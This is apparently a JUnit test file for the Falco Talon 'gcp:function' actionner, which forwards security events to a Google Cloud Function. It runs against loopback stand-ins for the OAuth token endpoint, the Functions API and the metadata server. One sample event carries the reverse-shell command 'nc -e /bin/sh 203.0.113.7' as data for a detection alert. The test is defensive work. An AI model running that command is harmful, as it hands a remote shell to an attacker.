package org.falcosecurity.talon.actionners.gcp;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.falcosecurity.talon.contract.ActionResult;
import org.falcosecurity.talon.support.HttpReceiver;
import org.falcosecurity.talon.support.ScriptedHttpServer;
import org.falcosecurity.talon.support.ScriptedHttpServer.Answer;
import org.falcosecurity.talon.support.TalonTestServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.Signature;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.falcosecurity.talon.kubernetes.ActionnerRun.run;

/**
 * gcp:function through the running Talon against loopback stand-ins (no Google service can run here): the Cloud
 * Functions API (the function's URL), the OAuth token endpoint of a service-account key (it checks the RS256
 * signature of Talon's JWT assertion with the key's public half), the function itself, and, without a key, the
 * metadata server.
 */
class CloudFunctionProtocolTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String ACCESS_TOKEN = "ya29.talon-test-access-token";

    private static KeyPair key;
    private static ScriptedHttpServer tokens;
    private static ScriptedHttpServer api;
    private static ScriptedHttpServer function;
    private static Path credentials;
    private static TalonTestServer talon;

    private static final String RULES = """
            - rule: call
              match: {rules: [call]}
              actions:
                - action: Invoke GCP Cloud Function
                  actionner: gcp:function
                  parameters:
                    gcp_function_name: sample-function
                    gcp_function_location: europe-west1
                    gcp_function_timeout: 10
            - rule: failing
              match: {rules: [failing]}
              actions: [{action: a, actionner: gcp:function, parameters: {gcp_function_name: failing}}]
            - rule: slow
              match: {rules: [slow]}
              actions: [{action: a, actionner: gcp:function, parameters: {gcp_function_name: slow,
                         gcp_function_timeout: 1}}]
            - rule: missing
              match: {rules: [missing]}
              actions: [{action: a, actionner: gcp:function, parameters: {gcp_function_name: missing}}]
            """;

    @BeforeAll
    static void start() throws Exception {
        KeyPairGenerator g = KeyPairGenerator.getInstance("RSA");
        g.initialize(2048);
        key = g.generateKeyPair();
        tokens = new ScriptedHttpServer(CloudFunctionProtocolTest::token);
        function = new ScriptedHttpServer(CloudFunctionProtocolTest::function);
        api = new ScriptedHttpServer(CloudFunctionProtocolTest::functionsApi);
        credentials = Files.createTempFile("gcp-key", ".json");
        Map<String, String> k = new LinkedHashMap<>();
        k.put("type", "service_account");
        k.put("project_id", "talon-test");
        k.put("private_key_id", "key-1");
        k.put("private_key", "-----BEGIN PRIVATE KEY-----\n" + Base64.getMimeEncoder(64, "\n".getBytes())
                .encodeToString(key.getPrivate().getEncoded()) + "\n-----END PRIVATE KEY-----\n");
        k.put("client_email", "talon@talon-test.iam.gserviceaccount.com");
        k.put("token_uri", tokens.url() + "/token");
        Files.writeString(credentials, JSON.writeValueAsString(k));
        talon = TalonTestServer.builder().withoutKubernetesCluster()
                .config("print_all_events: false\ndeduplication:\n  time_window_seconds: 0\ngcp:\n  credentials_path: "
                        + credentials + "\n")
                .property("talon.gcp.functions-url", api.url())
                .rules(RULES).start();
    }

    @AfterAll
    static void stop() throws Exception {
        talon.close();
        for (ScriptedHttpServer s : new ScriptedHttpServer[] {tokens, api, function}) {
            s.close();
        }
        Files.deleteIfExists(credentials);
    }

    @BeforeEach
    void clear() {
        tokens.clear();
        api.clear();
        function.clear();
    }

    /** The key's token_uri: a JWT-bearer grant whose assertion must be signed by the service account's key. */
    private static Answer token(HttpReceiver.Request r) {
        Map<String, String> form = new LinkedHashMap<>();
        for (String pair : r.body().split("&")) {
            String[] kv = pair.split("=", 2);
            form.put(kv[0], URLDecoder.decode(kv[1], StandardCharsets.UTF_8));
        }
        if (!"urn:ietf:params:oauth:grant-type:jwt-bearer".equals(form.get("grant_type"))) {
            return Answer.of(400, "{\"error\":\"unsupported_grant_type\"}");
        }
        String[] jwt = form.get("assertion").split("\\.");
        try {
            Signature s = Signature.getInstance("SHA256withRSA");
            s.initVerify(key.getPublic());
            s.update((jwt[0] + "." + jwt[1]).getBytes(StandardCharsets.US_ASCII));
            if (!s.verify(Base64.getUrlDecoder().decode(jwt[2]))) {
                return Answer.of(400, "{\"error\":\"invalid_grant\",\"error_description\":\"Invalid JWT Signature.\"}");
            }
            JsonNode header = JSON.readTree(Base64.getUrlDecoder().decode(jwt[0]));
            JsonNode claims = JSON.readTree(Base64.getUrlDecoder().decode(jwt[1]));
            if (!"RS256".equals(header.path("alg").asText()) || !"key-1".equals(header.path("kid").asText())
                    || !"talon@talon-test.iam.gserviceaccount.com".equals(claims.path("iss").asText())
                    || !(tokens.url() + "/token").equals(claims.path("aud").asText())
                    || claims.path("exp").asLong() <= claims.path("iat").asLong()) {
                return Answer.of(400, "{\"error\":\"invalid_grant\"}");
            }
            if (claims.has("target_audience")) {
                return Answer.of(200, "{\"id_token\":\"" + idToken(claims.path("target_audience").asText()) + "\"}");
            }
            if (GcpTokens.SCOPE.equals(claims.path("scope").asText())) {
                return Answer.of(200, "{\"access_token\":\"" + ACCESS_TOKEN + "\",\"expires_in\":3599,"
                        + "\"token_type\":\"Bearer\"}");
            }
            return Answer.of(400, "{\"error\":\"invalid_scope\"}");
        } catch (Exception e) {
            return Answer.of(400, "{\"error\":\"invalid_request\"}");
        }
    }

    /** An ID token this test can recognise: bound to its audience. */
    private static String idToken(String audience) {
        return "id." + Base64.getUrlEncoder().withoutPadding().encodeToString(audience.getBytes(StandardCharsets.UTF_8));
    }

    /** GET /v2/projects/P/locations/L/functions/N with the access token: serviceConfig.uri. */
    private static Answer functionsApi(HttpReceiver.Request r) {
        if (!("Bearer " + ACCESS_TOKEN).equals(r.header("authorization"))) {
            return Answer.of(401, "{\"error\":{\"code\":401,\"message\":\"Request is missing valid credentials.\"}}");
        }
        String prefix = "/v2/projects/talon-test/locations/";
        if (!r.method().equals("GET") || !r.path().startsWith(prefix)) {
            return Answer.of(400, "unexpected " + r.method() + " " + r.path());
        }
        String name = r.path().substring(r.path().lastIndexOf('/') + 1);
        if (name.equals("missing")) {
            return Answer.of(404, "{\"error\":{\"code\":404,\"message\":\"Resource '" + r.path().substring(4)
                    + "' was not found\",\"status\":\"NOT_FOUND\"}}");
        }
        return Answer.of(200, "{\"name\":\"" + r.path().substring(4) + "\",\"state\":\"ACTIVE\",\"serviceConfig\":"
                + "{\"uri\":\"" + function.url() + "/" + name + "\"}}");
    }

    /** The function: answers only a POST carrying the ID token for its own URL. */
    private static Answer function(HttpReceiver.Request r) {
        if (!("Bearer " + idToken(function.url() + r.path())).equals(r.header("authorization"))) {
            return Answer.of(401, "Your client does not have permission to the requested URL.");
        }
        return switch (r.path()) {
            case "/sample-function" -> Answer.of(200, "{\"status\":\"handled\"}");
            case "/failing" -> Answer.of(500, "Error: could not handle the request");
            case "/slow" -> {
                try {
                    Thread.sleep(3000);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
                yield Answer.of(200, "late");
            }
            default -> Answer.of(404, "no such function");
        };
    }

    @Test
    void looksTheFunctionUpThenPostsTheEventWithAnIdTokenForItsUrl() throws Exception {
        ActionResult r = run(talon, "call", Map.of("proc.cmdline", "nc -e /bin/sh 203.0.113.7"));
        assertThat(r.getStatus()).as(r.getJson()).isEqualTo("success");
        assertThat(r.getOutput()).isEqualTo("{\"status\":\"handled\"}");
        assertThat(r.getObjects()).containsEntry("name", "sample-function").containsEntry("location", "europe-west1")
                .containsEntry("url", function.url() + "/sample-function");
        assertThat(api.requests()).singleElement().satisfies(q -> assertThat(q.path())
                .isEqualTo("/v2/projects/talon-test/locations/europe-west1/functions/sample-function"));
        assertThat(function.requests()).singleElement().satisfies(q -> {
            assertThat(q.method()).isEqualTo("POST");
            assertThat(q.header("content-type")).isEqualTo("application/json");
            JsonNode payload = JSON.readTree(q.body());
            assertThat(payload.path("output_fields").path("proc.cmdline").asText())
                    .isEqualTo("nc -e /bin/sh 203.0.113.7");
            assertThat(payload.path("context").path("falco-talon.actionner").asText()).isEqualTo("gcp:function");
            assertThat(payload.path("context").path("falco-talon.rule").asText()).isEqualTo("call");
        });
        assertThat(r.getJson()).doesNotContain(ACCESS_TOKEN).doesNotContain("id.");
    }

    @Test
    void onlyA2xxAnswerIsASuccess() throws Exception {
        ActionResult r = run(talon, "failing", Map.of());
        assertThat(r.getStatus()).isEqualTo("failure");
        assertThat(r.getError()).isEqualTo("function failing (us-central1) answered 500: Error: could not handle the"
                + " request");
    }

    @Test
    void theTimeoutIsInSeconds() throws Exception {
        long start = System.nanoTime();
        ActionResult r = run(talon, "slow", Map.of());
        assertThat(r.getStatus()).isEqualTo("failure");
        assertThat(r.getError()).isEqualTo("function slow (us-central1) did not answer within 1 s");
        // one second, not one nanosecond (upstream's bug): the function was reached
        assertThat(function.requests()).hasSize(1);
        assertThat(System.nanoTime() - start).isGreaterThan(900_000_000L);
    }

    @Test
    void aFunctionTheApiDoesNotKnowIsAFailureWithTheApisMessage() throws Exception {
        ActionResult r = run(talon, "missing", Map.of());
        assertThat(r.getStatus()).isEqualTo("failure");
        assertThat(r.getError()).isEqualTo("cannot call function missing (us-central1): the Cloud Functions API"
                + " answered 404 for projects/talon-test/locations/us-central1/functions/missing: Resource"
                + " 'projects/talon-test/locations/us-central1/functions/missing' was not found");
        assertThat(function.requests()).isEmpty();
    }

    @Test
    void withoutAKeyTheTokensAndProjectComeFromTheMetadataServer() throws Exception {
        try (ScriptedHttpServer metadata = new ScriptedHttpServer(r -> {
            if (!"Google".equals(r.header("metadata-flavor"))) {
                return Answer.of(403, "Missing Metadata-Flavor:Google header.");
            }
            return switch (r.path()) {
                case "/computeMetadata/v1/project/project-id" -> Answer.of(200, "talon-test");
                case "/computeMetadata/v1/instance/service-accounts/default/token" -> Answer.of(200,
                        "{\"access_token\":\"" + ACCESS_TOKEN + "\",\"expires_in\":3599,\"token_type\":\"Bearer\"}");
                case "/computeMetadata/v1/instance/service-accounts/default/identity" -> Answer.of(200,
                        idToken(URLDecoder.decode(r.query().replaceFirst("^audience=([^&]*).*$", "$1"),
                                StandardCharsets.UTF_8)));
                default -> Answer.of(404, "not found");
            };
        }); TalonTestServer plain = TalonTestServer.builder().withoutKubernetesCluster()
                .config("print_all_events: false\n").property("talon.gcp.functions-url", api.url())
                .property("talon.gcp.metadata-url", metadata.url()).rules(RULES).start()) {
            ActionResult r = run(plain, "call", Map.of());
            assertThat(r.getStatus()).as(r.getJson()).isEqualTo("success");
            assertThat(metadata.requests()).extracting(HttpReceiver.Request::path).contains(
                    "/computeMetadata/v1/project/project-id",
                    "/computeMetadata/v1/instance/service-accounts/default/token",
                    "/computeMetadata/v1/instance/service-accounts/default/identity");
            assertThat(tokens.requests()).isEmpty();
        }
    }
}
